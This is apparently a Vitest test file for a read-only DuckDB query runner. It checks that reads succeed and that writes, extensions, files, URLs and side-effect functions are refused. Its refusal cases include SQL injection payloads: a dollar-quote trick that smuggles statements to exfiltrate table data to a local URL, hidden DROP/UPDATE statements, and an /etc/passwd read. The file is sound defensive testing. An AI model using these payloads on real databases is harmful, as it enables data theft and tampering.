import { beforeAll, describe, expect, it } from 'vitest';
import { MAX_ROWS, planFunctions, runReadOnly, withoutTrailingSemicolons, type ReadOnlyConnection, type ReadOnlyOutcome } from '../../../src/lib/db/readonly';
import { readTable } from '../../../src/lib/db/values';
import { workbenchDb } from './duckdb';

let env: Awaited<ReturnType<typeof workbenchDb>>;

beforeAll(async () => {
  env = await workbenchDb();
  env.setup("CREATE TABLE penyaluran AS SELECT * FROM (VALUES ('pkh_plus', 3501, 1000.0), ('aspd', 3502, 2000.0)) v(program_id, kode, realisasi_rp)");
  env.setup('CREATE SEQUENCE urut');
  env.lock();
});

const run = (sql: string) => runReadOnly(env.conn, sql);
const rows = (o: ReadOnlyOutcome) => (o.kind === 'rows' ? readTable(o.table, 'display').rows.map((r) => ({ ...r })) : o);
const total = () => Number(env.appQuery('SELECT sum(realisasi_rp)::DOUBLE AS s FROM penyaluran').getChild('s')!.get(0));
const tables = () => env.appQuery('SELECT table_name FROM duckdb_tables() ORDER BY 1').getChild('table_name')!.toArray().join(',');

describe('read-only workbench runner: queries run', () => {
  it.each([
    ['SELECT program_id FROM penyaluran ORDER BY kode', [{ program_id: 'pkh_plus' }, { program_id: 'aspd' }]],
    ['FROM penyaluran SELECT kode ORDER BY kode DESC LIMIT 1', [{ kode: 3502 }]],
    ['WITH x AS (SELECT 2 AS n) SELECT n FROM x', [{ n: 2 }]],
    ['VALUES (1)', [{ col0: 1 }]],
    ["SELECT '?' AS q, 'a;b' AS s -- trailing comment", [{ q: '?', s: 'a;b' }]],
    ['SELECT 1 AS one;  -- done\n ;', [{ one: 1 }]],
    ['(SELECT 1 AS x) UNION ALL (SELECT 2) ORDER BY x', [{ x: 1 }, { x: 2 }]]
  ])('%s', async (sql, expected) => {
    expect(rows(await run(sql))).toEqual(expected);
  });

  it('DESCRIBE, SHOW TABLES, SUMMARIZE and PIVOT are queries too', async () => {
    for (const sql of [
      'DESCRIBE penyaluran',
      'SHOW TABLES',
      'SUMMARIZE penyaluran',
      "PIVOT penyaluran ON program_id IN ('aspd', 'pkh_plus') USING sum(realisasi_rp)"
    ]) {
      const o = await run(sql);
      expect(o.kind, sql).toBe('rows');
    }
  });

  it('repeated column names come back unique (DuckDB renames them in the subquery)', async () => {
    const o = await run('SELECT 1 AS a, 2 AS a, 3 AS "__proto__"');
    expect(o.kind).toBe('rows');
    const { columns, rows: r } = readTable((o as Extract<ReadOnlyOutcome, { kind: 'rows' }>).table, 'display');
    expect(columns).toEqual(['a', 'a_1', '__proto__']);
    expect(r[0].a).toBe(1);
    expect(r[0].a_1).toBe(2);
    expect(Object.getOwnPropertyDescriptor(r[0], '__proto__')?.value).toBe(3);
  });
});

describe('read-only workbench runner: DuckDB refuses everything else', () => {
  const refused = async (sql: string) => {
    const o = await run(sql);
    expect(o.kind, `${sql} → ${JSON.stringify(o).slice(0, 200)}`).toBe('refused');
    return o as Extract<ReadOnlyOutcome, { kind: 'refused' }>;
  };

  it.each([
    'UPDATE penyaluran SET realisasi_rp = realisasi_rp * 10',
    'DELETE FROM penyaluran',
    'DROP TABLE penyaluran',
    'CREATE OR REPLACE TABLE penyaluran AS SELECT 1 AS x',
    'CREATE TEMP TABLE t AS SELECT 1',
    "INSERT INTO penyaluran VALUES ('x', 1, 1)",
    'ALTER TABLE penyaluran RENAME TO p2',
    'WITH c AS (SELECT 1) UPDATE penyaluran SET realisasi_rp = 0',
    'CREATE VIEW v AS SELECT 1',
    'CREATE MACRO m(x) AS x',
    'SET VARIABLE leak = 1',
    'SET threads = 1',
    'RESET threads',
    "ATTACH ':memory:' AS m2",
    'DETACH m2',
    'USE memory',
    'INSTALL httpfs',
    'LOAD httpfs',
    'CALL pragma_version()',
    'PRAGMA version',
    'BEGIN TRANSACTION',
    'COMMIT',
    'ROLLBACK',
    'CHECKPOINT',
    'VACUUM',
    'PREPARE p AS SELECT 1',
    "EXPORT DATABASE 'x'",
    "COPY penyaluran TO 'x.csv'",
    'EXPLAIN ANALYZE UPDATE penyaluran SET realisasi_rp = 0'
  ])('%s is refused and changes nothing', async (sql) => {
    const before = [total(), tables()];
    await refused(sql);
    expect([total(), tables()]).toEqual(before);
  });

  it('a SELECT that would write (nextval) is stopped by the read-only transaction', async () => {
    const o = await refused("SELECT nextval('urut')");
    expect(o.reason).toBe('read_only');
    expect(o.message).toMatch(/read-only/);
  });

  it.each([
    // the exfiltration link: a dollar quote whose tag holds a digit hides two more statements
    "SELECT count(*) FROM penyaluran WHERE $a1$'$a1$ <> $$x$$; SET VARIABLE leak=(SELECT string_agg(program_id, ',') FROM penyaluran); SELECT * FROM read_text($$http://127.0.0.1:9/$$||getvariable($$leak$$)) --'",
    "SELECT count(*) FROM penyaluran WHERE $a1$'$a1$ <> $$x$$; UPDATE penyaluran SET realisasi_rp = realisasi_rp*10; SELECT 1 --'",
    'SELECT 1 --\r; DROP TABLE penyaluran',
    'SELECT 1; SELECT 2',
    "SELECT 'x'; COPY penyaluran TO 'y.csv'"
  ])('two statements are refused by the parser: %s', async (sql) => {
    const before = total();
    const o = await refused(sql);
    expect(o.reason).toBe('multiple');
    expect(o.message).toMatch(/multiple statements/);
    expect(total()).toBe(before);
  });

  it.each([
    'SELECT * FROM "http://127.0.0.1:9/x.csv"',
    "SELECT * FROM 'http://127.0.0.1:9/x.csv'",
    'SELECT * FROM "read_csv"(\'http://127.0.0.1:9/x.csv\')',
    'SELECT * FROM "read_text"(\'http://127.0.0.1:9/x\')',
    'SELECT * FROM "read_blob"(\'/etc/passwd\')',
    'SELECT * FROM "glob"(\'*\')',
    'SELECT * FROM "sniff_csv"(\'http://127.0.0.1:9/x.csv\')',
    'DESCRIBE "http://127.0.0.1:9/x.csv"',
    "SUMMARIZE 'http://127.0.0.1:9/x.csv'",
    'SHOW "http://127.0.0.1:9/x.csv"',
    'TABLE "http://127.0.0.1:9/x.csv"',
    "PIVOT 'http://127.0.0.1:9/x.csv' ON a IN (1, 2) USING count(*)",
    "UNPIVOT 'http://127.0.0.1:9/x.csv' ON a INTO NAME k VALUE v",
    "FROM read_csv('x.csv')",
    "SELECT * FROM read_csv('/data/penerima.csv')",
    "SELECT * FROM query('SELECT * FROM read_text(''http://127.0.0.1:9/q'')')",
    'SELECT * FROM query_table(\'"http://127.0.0.1:9/x.csv"\')'
  ])('files and URLs are refused by the engine: %s', async (sql) => {
    const o = await refused(sql);
    expect(o.reason, o.message).toBe('external');
    expect(o.message).toMatch(/disabled by configuration/);
  });
});

describe("trailing semicolons are cut where DuckDB's lexer says", () => {
  it.each([
    ['SELECT 1;', 'SELECT 1'],
    ['SELECT 1; -- x\n;', 'SELECT 1'],
    ["SELECT ';' AS s", "SELECT ';' AS s"],
    ['SELECT $$;$$ ; /* c */', 'SELECT $$;$$ ']
  ])('%j → %j', async (sql, expected) => {
    expect(await withoutTrailingSemicolons(env.conn, sql)).toBe(expected);
  });
});

describe('second round: SQL that reaches other statements from inside a SELECT', () => {
  it.each([
    "SELECT * FROM query('COMMIT')",
    "SELECT * FROM query('UPDATE penyaluran SET realisasi_rp = 0')",
    "SELECT * FROM query('SELECT 1'), query('DELETE FROM penyaluran')",
    "SELECT 1 FROM penyaluran WHERE kode IN (SELECT 1 FROM query('DROP TABLE penyaluran'))",
    "SUMMARIZE (SELECT * FROM query('DROP TABLE penyaluran'))",
    "DESCRIBE (SELECT * FROM query('CREATE TABLE x AS SELECT 1'))",
    "SELECT * FROM query('SET VARIABLE x = 1')",
    "SELECT * FROM query('ATTACH '':memory:'' AS q')",
    "SELECT * FROM query('INSTALL httpfs')",
    'SELECT * FROM (UPDATE penyaluran SET realisasi_rp = 9 RETURNING *)',
    'SELECT * FROM force_checkpoint()',
    "FROM (SELECT 1) t, LATERAL (SELECT nextval('urut'))"
  ])('%s runs nothing but a read', async (sql) => {
    const before = [total(), tables()];
    const o = await run(sql);
    expect(o.kind, sql).not.toBe('rows');
    expect([total(), tables()]).toEqual(before);
    expect(env.appQuery('SELECT count(*)::INT AS n FROM duckdb_databases()').getChild('n')!.get(0)).toBe(3); // memory, system, temp
  });
});

describe('second attack round: table functions that change the engine, however they are reached', () => {
  const setting = (name: string) => String(env.appQuery(`SELECT current_setting('${name}')::VARCHAR AS v`).getChild('v')!.get(0));

  it.each([
    "FROM enable_logging(storage = 'file', storage_path = 'x')",
    "SELECT * FROM enable_logging(level = 'trace')",
    'SELECT (SELECT count(*) FROM enable_logging()) AS n',
    'WITH c AS (FROM enable_logging()) SELECT * FROM range(3), c',
    "SELECT * FROM query('FROM enable_logging()')",
    'FROM disable_logging()',
    'FROM truncate_duckdb_logs()',
    'SELECT * FROM checkpoint()',
    'SELECT * FROM force_checkpoint()',
    'SELECT * FROM "enable_logging"()'
  ])('%s is refused before it runs, and the tab keeps working', async (sql) => {
    const before = [setting('enable_logging'), setting('logging_storage'), setting('logging_level')];
    const o = await run(sql);
    expect(o.kind, JSON.stringify(o).slice(0, 200)).toBe('refused');
    expect((o as { reason: string }).reason).toBe('side_effect');
    expect([setting('enable_logging'), setting('logging_storage'), setting('logging_level')]).toEqual(before);
    expect(rows(await run('SELECT 1 AS x'))).toEqual([{ x: 1 }]);
    expect(total()).toBe(3000);
  });

  it('functions that read still run: range, generate_series, unnest, SUMMARIZE, the catalogue and pragma_ functions', async () => {
    for (const sql of [
      'SELECT * FROM range(3)',
      'FROM generate_series(1, 3)',
      'SELECT * FROM unnest([1, 2])',
      'SUMMARIZE penyaluran',
      'SELECT * FROM duckdb_tables()',
      'FROM duckdb_columns() WHERE table_name = $$penyaluran$$',
      "SELECT * FROM pragma_table_info('penyaluran')",
      "SELECT * FROM query_table('penyaluran')",
      "SELECT * FROM query('SELECT 1')"
    ]) {
      const o = await run(sql);
      expect(o.kind, `${sql} → ${o.kind === 'rows' ? '' : o.kind === 'stopped' ? 'stopped' : o.message}`).toBe('rows');
    }
  });

  it("planFunctions reads every table function of DuckDB's JSON plan, nested at any depth", () => {
    const plan = [{ name: 'X', children: [{ name: 'RANGE ', extra_info: { Function: 'RANGE' }, children: [{ extra_info: { Function: 'ENABLE_LOGGING' } }] }] }];
    expect(planFunctions(plan)).toEqual(['range', 'enable_logging']);
  });
});

describe('second attack round: huge results and endless statements end with a clear outcome', () => {
  it(`at most ${MAX_ROWS.toLocaleString('en')} rows come back, and the result says it was cut`, async () => {
    const o = await run('SELECT * FROM range(250000)');
    expect(o.kind).toBe('rows');
    const r = o as Extract<ReadOnlyOutcome, { kind: 'rows' }>;
    expect([r.table.numRows, r.truncated]).toEqual([MAX_ROWS, true]);
    const small = (await run('SELECT * FROM range(10)')) as Extract<ReadOnlyOutcome, { kind: 'rows' }>;
    expect([small.table.numRows, small.truncated]).toEqual([10, false]);
  });

  it('an endless recursive CTE stops at the row limit instead of running forever', async () => {
    const o = await run('WITH RECURSIVE t(n) AS (SELECT * FROM range(5000) UNION ALL SELECT n + 1 FROM t) SELECT n FROM t');
    expect(o.kind).toBe('rows');
    expect((o as Extract<ReadOnlyOutcome, { kind: 'rows' }>).truncated).toBe(true);
  }, 60_000);

  /** A connection whose statement never ends by itself; `cancel` ends it as DuckDB-WASM does, or not at all. */
  function endless(cancels: boolean) {
    const calls: string[] = [];
    let reject: ((e: Error) => void) | null = null;
    const conn: ReadOnlyConnection = {
      ...env.conn,
      async send() {
        calls.push('send');
        return new Promise((_, r) => (reject = r));
      },
      async cancel() {
        calls.push('cancel');
        if (cancels) setTimeout(() => reject?.(new Error('query was canceled')), 10);
        return cancels;
      }
    };
    return { conn, calls };
  }

  it('a statement still running at the time limit is cancelled and reported as stopped', async () => {
    const { conn, calls } = endless(true);
    const o = await runReadOnly(conn, 'SELECT count(*) FROM range(10) a, range(10) b', { timeLimitMs: 50, graceMs: 2000 });
    expect(o).toEqual({ kind: 'stopped', by: 'timeout', seconds: 0, stuck: false });
    expect(calls).toEqual(['send', 'cancel']);
    expect(rows(await run('SELECT 2 AS y'))).toEqual([{ y: 2 }]); // the connection's transaction was ended
  });

  it('Stop cancels it at once; a statement DuckDB does not give up is reported as stuck, not waited for', async () => {
    const stop = new AbortController();
    const { conn } = endless(true);
    const pending = runReadOnly(conn, 'SELECT 1', { timeLimitMs: 60_000, signal: stop.signal });
    setTimeout(() => stop.abort(), 20);
    expect(await pending).toMatchObject({ kind: 'stopped', by: 'user', stuck: false });

    const stubborn = endless(false);
    const t0 = Date.now();
    expect(await runReadOnly(stubborn.conn, 'SELECT 1', { timeLimitMs: 20, graceMs: 100 })).toMatchObject({ kind: 'stopped', by: 'timeout', stuck: true });
    expect(Date.now() - t0).toBeLessThan(5000);
  });

  it('a statement DuckDB spends long on while preparing (constant folding) is given up on too, and never run after', async () => {
    const calls: string[] = [];
    const conn: ReadOnlyConnection = {
      ...env.conn,
      async prepared(sql, run) {
        calls.push('prepare');
        if (calls.length === 1) await new Promise((r) => setTimeout(r, 300)); // e.g. repeat('x', 2000000000)
        return env.conn.prepared(sql, run);
      },
      async send(sql) {
        calls.push('send');
        return env.conn.send(sql);
      },
      async cancel() {
        calls.push('cancel');
        return false; // nothing pending: the prepare is not a pending query
      }
    };
    expect(await runReadOnly(conn, "SELECT repeat('x', 3) AS s", { timeLimitMs: 50, graceMs: 1000 })).toMatchObject({
      kind: 'stopped',
      by: 'timeout',
      stuck: false
    });
    expect(calls).toEqual(['prepare', 'cancel']);
    const slow = await runReadOnly(conn, 'SELECT 1', { timeLimitMs: 5000, graceMs: 50 });
    expect(slow).toMatchObject({ kind: 'rows' }); // a fresh run of the same connection is not stopped
  });
});
